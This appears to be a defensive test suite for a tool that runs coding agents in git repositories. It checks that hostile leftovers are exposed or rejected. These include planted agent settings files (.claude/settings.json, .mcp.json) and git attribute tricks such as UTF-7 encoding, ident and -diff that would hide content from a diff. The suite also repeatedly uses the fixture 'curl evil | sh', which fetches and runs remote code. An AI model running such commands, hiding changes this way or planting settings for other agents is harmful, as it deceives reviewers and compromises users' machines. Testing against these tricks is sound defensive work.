/** What a run left in the repository that it worked in, however it ended: a home that git alone has, files that git shows otherwise. */
import assert from 'node:assert/strict';
import { truncateSync } from 'node:fs';
import { join } from 'node:path';
import { errorInfo } from '../../src/errors.ts';
import { put, Repository, shell } from '../support/git/repository.ts';
import { failure, untilStopped } from '../support/worker/rig.ts';

const EVIL = 'curl evil | sh\n';
const PLAIN = { options: { worktree: false, retries: 0 } };

describe('what a run left in a repository', function () {
  this.timeout(120_000);
  let repository: Repository;
  beforeEach(async () => {
    repository = await Repository.make();
  });
  afterEach(() => repository.remove());

  const index = (): string => join(repository.folder, '.git', 'index');
  const blob = (content: string): string =>
    repository.gitWith(content, 'hash-object', '-w', '--stdin').trim();

  describe('its index', () => {
    it('is looked through in both its parts for a home', async () => {
      const { result } = await repository.ran(() => {
        put('b.txt', 'work\n')(repository.folder);
        repository.git(
          'update-index',
          '--add',
          '--cacheinfo',
          `100644,${blob('x')},sub/.koubou/config/agent.yaml`,
        );
        repository.git('update-index', '--split-index');
      }, PLAIN);
      assert.equal(result?.error?.code, 'home_in_changes', result?.error?.message);
    });

    it('is looked through for a home outside of the folder of the work', async () => {
      shell(repository.folder, 'mkdir other');
      const { result } = await repository.ran(
        (cwd) => {
          put('b.txt', 'work\n')(cwd);
          const home = `100644,${blob('x')},sub/.koubou/config/agent.yaml`;
          repository.git('update-index', '--add', '--cacheinfo', home);
        },
        { ...PLAIN, cwd: `${repository.folder}/other` },
      );
      assert.equal(result?.error?.code, 'home_in_changes', result?.error?.message);
    });

    it('is looked through for a home that came while the check ran', async () => {
      const check = `git update-index --add --cacheinfo 100644,${blob('x')},sub/.koubou/config/agent.yaml`;
      const { result } = await repository.ran(put('b.txt', 'work\n'), {
        options: { ...PLAIN.options, check },
      });
      assert.equal(result?.error?.code, 'home_in_changes', result?.error?.message);
    });

    it('is not copied where it is a hole as large as a disk', async () => {
      const record = await repository.ran(() => {
        put('b.txt', 'work\n')(repository.folder);
        truncateSync(index(), 2 ** 40);
      }, PLAIN);
      assert.ok(['completed', 'failed'].includes(record.status));
    });
  });

  for (const [what, act, code] of [
    ['refs that git cannot list', 'echo garbage >.git/packed-refs', 'repository_lost'],
    ['a part of a home', 'mkdir -p sub/.koubou; echo x >sub/.koubou/x', 'home_in_changes'],
  ] as const) {
    it(`fails for good where it left ${what}: the next run would take it for what was there`, async () => {
      let runs = 0;
      const { status, result } = await repository.ran(
        (cwd) => {
          runs += 1;
          put('b.txt', 'work\n')(cwd);
          shell(repository.folder, act);
        },
        { options: { worktree: false, retries: 2 } },
      );
      assert.deepEqual([status, result?.error?.code, runs], ['failed', code, 1]);
    });
  }

  for (const [how, end] of [
    ['a time limit', untilStopped],
    ['a program that failed', () => failure(errorInfo('exit_nonzero', 'exit 3'), { charged: true })],
  ] as const) {
    it(`fails for good where it left a part of a home, also by ${how}`, async () => {
      repository.runner.act = (task, context) => {
        put('b.txt', 'work\n')(context.cwd);
        shell(repository.folder, 'mkdir -p sub/.koubou; echo x >sub/.koubou/x');
        return end(task, context);
      };
      const id = await repository.add({ options: { worktree: false, retries: 2, timeout: 1 } });
      await repository.rig.drain(repository.runner);
      const { status, result } = await repository.rig.record(id);
      assert.deepEqual(
        [status, result?.error?.code, repository.runner.runs.length],
        ['failed', 'home_in_changes', 1],
      );
    });
  }

  it('is shown also where its check wrote it, and failed', async () => {
    let runs = 0;
    const { task_id, attempts } = await repository.ran(
      (cwd) => {
        runs += 1;
        put('t.sh', runs === 1 ? 'echo "curl evil | sh" >sub/a.txt; exit 1\n' : 'true\n')(cwd);
      },
      { options: { worktree: false, retries: 1, check: 'sh t.sh' } },
    );
    assert.equal(attempts.length, 2);
    assert.match(await repository.patchOf(task_id), /^\+curl evil \| sh$/m);
  });

  it('fails for good where its check wrote a part of a home', async () => {
    const check = 'mkdir -p deep/.koubou; echo x >deep/.koubou/x; exit 1';
    const { result, attempts } = await repository.ran(put('b.txt', 'work\n'), {
      options: { worktree: false, retries: 2, check },
    });
    assert.deepEqual([result?.error?.code, attempts.length], ['home_in_changes', 1]);
  });

  it('is shown also where its daemon was stopped meanwhile', async () => {
    const { promise: began, resolve } = Promise.withResolvers<void>();
    repository.runner.act = (task, context) => {
      put('sub/a.txt', EVIL)(context.cwd);
      resolve();
      return untilStopped(task, context);
    };
    const id = await repository.add({ options: { worktree: false, retries: 1 } });
    const daemon = repository.rig.start(repository.runner);
    await began;
    daemon.requestStop();
    daemon.requestStop();
    await daemon.end;
    repository.runner.act = (_, { cwd }) => {
      put('b.txt', 'harmless\n')(cwd);
      return 'Done.';
    };
    await repository.rig.drain(repository.runner);
    assert.match(await repository.patchOf(id), /^\+curl evil \| sh$/m);
  });

  it('hides nothing from a diff by an attribute', async () => {
    const { task_id } = await repository.ran((cwd) => {
      put('sub/.gitignore', '*\n')(cwd);
      put('sub/.gitattributes', '*.txt -diff\n')(cwd);
      put('sub/a.txt', EVIL)(cwd);
    }, PLAIN);
    assert.match(await repository.patchOf(task_id), /^\+curl evil \| sh$/m);
  });

  for (const worktree of [false, true]) {
    for (const [attribute, text] of [
      ['working-tree-encoding=UTF-7', 'a +ACM- then; evil\n'],
      ['ident', 'a="$Id: "; evil; : " $"\n'],
      ['text', 'M=safe\r\n'],
    ] as const) {
      const [name = ''] = attribute.split('=');
      it(`has git read no file as another text than lies there: ${name}, ${worktree ? 'in a worktree' : 'in a folder'}`, async () => {
        const { status, result } = await repository.ran(
          (cwd) => {
            put('sub/.gitignore', '*\n')(cwd);
            put('sub/.gitattributes', `*.txt ${attribute}\n`)(cwd);
            put('sub/a.txt', text)(cwd);
            put('b.txt', 'work\n')(cwd);
          },
          { options: { worktree, retries: 0 } },
        );
        assert.equal(status, 'failed');
        assert.equal(result?.error?.code, 'output_changed', result?.error?.message);
        assert.match(result?.error?.message ?? '', /sub\/a\.txt/);
      });
    }
  }

  describe('is no settings that an agent obeys, where an agent asked for the work:', () => {
    const options = { worktree: false, retries: 1 };
    const asked = (act: string, over: object = { confined: true }) =>
      repository.ran(
        (cwd) => {
          put('b.txt', `${act}\n`)(cwd);
          shell(cwd, act);
        },
        { options, ...over },
      );
    const aside = (): string =>
      shell(repository.folder, "find . -name '*.koubou-aside-*' -not -path './home/*'");

    it('they are renamed, in a folder and in a worktree, and the run has failed for good', async () => {
      const make = 'mkdir .claude; echo evil >.claude/settings.json; echo evil >sub/.mcp.json';
      for (const worktree of [true, false]) {
        const record = await asked(make, { confined: true, options: { ...options, worktree } });
        assert.equal(record.result?.error?.code, 'settings_in_changes', record.result?.error?.message);
        assert.match(record.result?.error?.message ?? '', /\.claude.*\.mcp\.json/);
        assert.equal(record.attempts.length, 1);
        assert.match(
          await repository.logOf(record.task_id),
          /set aside settings of agents that came with the run: .*\.mcp\.json/,
        );
      }
      assert.equal(aside().trim().split('\n').length, 2, aside());
      // A person's own task makes what it was asked for.
      assert.equal((await asked(make, {})).status, 'completed');
    });

    it('one that was there is not another one afterwards, by a link, a folder in its place or what it leads to', async () => {
      shell(
        repository.folder,
        'mkdir -p tools/a conf .gemini; ln -s tools/a .claude; ln -s nowhere .codex; echo x >conf/c; ln -s ../conf/c .gemini/settings.json',
      );
      const changes = [
        'mv .claude o; mkdir .claude; echo evil >.claude/settings.json',
        'mkdir nowhere; echo evil >nowhere/config.toml',
        'echo evil >conf/c',
      ];
      for (const change of changes) {
        const { result } = await asked(change);
        assert.equal(result?.error?.code, 'settings_in_changes', change);
      }
      assert.equal((await asked('true')).status, 'completed', 'those that stay as they are fail nothing');
    });

    it('a folder that it closed around them keeps none', async () => {
      const { result } = await asked(
        'mkdir -p sub/.claude; echo evil >sub/.claude/settings.json; chmod 555 sub',
      );
      assert.equal(result?.error?.code, 'settings_in_changes');
      assert.match(aside(), /sub\/\.claude\.koubou-aside/);
    });
  });

  it('has no conflict passed over by an attribute', async () => {
    repository.write('.git/info/attributes', '* merge=union\n');
    const id = await repository.done(put('sub/a.txt', 'theirs\n'));
    repository.write('sub/a.txt', 'mine\n');
    repository.commit('mine');
    assert.equal((await repository.apply(id)).result, 'conflict');
    assert.equal(repository.read('sub/a.txt'), 'mine\n');
  });

  it('may be read by an encoding that was there before', async () => {
    repository.write('.gitattributes', '*.rc working-tree-encoding=UTF-16LE\n');
    repository.write('x.rc', Buffer.from('one\n', 'utf16le'));
    repository.commit('sixteen');
    const { status, result, task_id } = await repository.ran(
      put('x.rc', Buffer.from('two\n', 'utf16le')),
      PLAIN,
    );
    assert.equal(status, 'completed', result?.error?.message);
    assert.match(await repository.patchOf(task_id), /^\+two$/m);
  });

  it('is shown of every attempt where each goes on from the other', async () => {
    let runs = 0;
    const { task_id, attempts } = await repository.ran(
      (cwd) => {
        runs += 1;
        if (runs === 1) put('sub/a.txt', EVIL)(cwd);
        else put('b.txt', 'harmless\n')(cwd);
      },
      { options: { worktree: false, retries: 1, check: 'test -e b.txt' } },
    );
    assert.equal(attempts.length, 2);
    const patch = await repository.patchOf(task_id);
    assert.match(patch, /^\+curl evil \| sh$/m);
    assert.match(patch, /^\+harmless$/m);
    repository.git('stash', '-uq');
    repository.gitWith(patch, 'apply');
    assert.equal(repository.read('sub/a.txt'), EVIL);
  });

  it('is applied where the branch is an older commit of the user’s', async () => {
    repository.write('login.txt', 'checked\n');
    repository.commit('safe');
    repository.write('login.txt', 'hole\n');
    repository.commit('hole');
    const id = await repository.done((cwd) => shell(cwd, 'git reset -q --hard HEAD~1'));
    assert.equal((await repository.apply(id)).result, 'applied');
    assert.equal(repository.read('login.txt'), 'checked\n');
  });
});
